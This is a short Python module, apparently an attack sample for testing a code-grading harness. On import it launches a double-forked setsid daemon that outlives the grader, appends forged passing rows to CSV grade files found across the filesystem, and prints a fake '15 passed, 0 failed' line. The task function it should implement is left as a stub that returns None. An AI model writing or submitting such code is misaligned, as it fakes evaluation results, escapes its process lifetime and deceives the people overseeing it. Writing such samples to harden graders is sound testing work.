"""Attack: a double-forked setsid daemon that outlives the judge and rewrites its CSV and stdout afterwards."""

import glob
import os
import time

MARK = "attack-daemon-was-here"


def _daemon():
    if os.fork():
        return
    os.setsid()
    if os.fork():
        os._exit(0)
    time.sleep(2.5)  # until the judge has written its CSV and exited
    for pattern in ("/tmp/**/*.csv", "/work/**/*.csv", os.path.expanduser("~") + "/**/*.csv", "/**/grades*.csv"):
        for path in glob.glob(pattern, recursive=True)[:50]:
            try:
                with open(path, "a") as f:
                    f.write(f"setsid_daemon,128,15,0,100.0\n{MARK}\n")
            except OSError:
                pass
    for fd in (1, 2):
        try:
            os.write(fd, f"15 passed, 0 failed {MARK}\n".encode())
        except OSError:
            pass
    time.sleep(30)
    os._exit(0)


_daemon()


def build_batch(items, block_size):
    return None
